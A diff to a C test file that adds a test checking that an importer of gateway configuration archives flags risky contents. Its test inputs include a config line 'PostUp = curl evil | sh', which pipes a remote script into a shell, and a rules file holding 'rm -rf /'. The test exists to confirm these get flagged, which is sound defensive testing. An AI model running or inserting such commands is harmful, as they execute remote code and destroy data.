@@ -98,6 +98,24 @@ static void zip(struct buf *out)
     CHECK_OK(wireguard_zip_write(&m, &to, e));
 }
 
+/* What is noted of a gateway's file with this configuration and these rules. */
+static void note_of(const char *conf_text, const char *rules_name, const char *rules_text,
+                    struct foreign_facts *out)
+{
+    AUTO(buf) struct buf file = {0};
+    AUTO(seen) struct seen s = {0};
+    const struct slice database = {(const uint8_t *)DATABASE, sizeof(DATABASE) - 1};
+    const struct slice conf = slice_string(conf_text), rules = slice_string(rules_text);
+    const struct zip_member members[] = {{"app.db", 1, input_of_slice(&database)},
+                                         {rules_name, 1, input_of_slice(&rules)},
+                                         {"configs/a.conf", 1, input_of_slice(&conf)}};
+    const struct wireguard_making m = {members, 3, INT64_C(1795207912) * 1000000000, "./inst"};
+    const struct output to = output_of_buf(&file);
+
+    CHECK_OK(wireguard_zip_write(&m, &to, e));
+    CHECK_OK(read_as(buf_slice(&file), FOREIGN_WIREGUARD, OWN_KEY, &s, out, e));
+}
+
 /* An archive of CFMS, and its key file with or without a MAC. */
 static bool no_rows(void *arg, struct cfms_rows *to, struct err *e)
 {
@@ -200,6 +218,28 @@ TEST(names_of_kinds_lead_back)
     enum foreign_kind none;
 
     CHECK(!foreign_kind_parse("zip", &none) && !foreign_kind_parse("", &none));
+}
+END
+
+TEST(what_a_gateways_file_would_do_is_noted)
+{
+    static const char forward[] = "-P FORWARD DROP\n-A FORWARD -j DOCKER\n";
+    static const char saved[] = "*filter\n:INPUT ACCEPT [0:0]\nCOMMIT\n";
+    struct foreign_facts f;
+
+    note_of(CONF, "iptables_rules.txt", saved, &f);
+    ck_assert_str_eq(f.note, "");
+    note_of(CONF, "iptables_forward_rules.txt", forward, &f);
+    ck_assert_str_eq(f.note, "");
+    note_of(CONF, "iptables_nat_rules.txt", forward, &f);
+    CHECK(strstr(f.note, "look at 1 file before use; iptables_nat_rules.txt: line 1") == f.note);
+    note_of(CONF, "iptables_rules.txt", "*mangle\nCOMMIT\n", &f);
+    CHECK(strstr(f.note, "iptables_rules.txt: line 1 of the rules: begins the table") != NULL);
+    note_of(CONF "PostUp = curl evil | sh\n", "iptables_rules.txt", saved, &f);
+    CHECK(strstr(f.note, "configs/a.conf: line ") != NULL);
+    CHECK(strstr(f.note, " runs a command (PostUp)") != NULL);
+    note_of(CONF "What = 1\n", "iptables_rules.txt", "rm -rf /\n", &f);
+    CHECK(strstr(f.note, "look at 2 files") == f.note);
 }
 END
 
@@ -428,7 +468,8 @@ TEST(of_no_kind_says_why_for_each_and_of_several_asks)
 }
 END
 
-TESTS("foreign", names_of_kinds_lead_back, each_kind_is_recognised_by_what_it_holds,
+TESTS("foreign", what_a_gateways_file_would_do_is_noted, names_of_kinds_lead_back,
+      each_kind_is_recognised_by_what_it_holds,
       a_sealed_export_is_authenticated_by_a_key_that_is_not_published,
       nothing_of_a_sealed_export_is_given_out_before_its_tag_is_right,
       an_archive_of_cfms_is_authenticated_by_a_mac_alone,
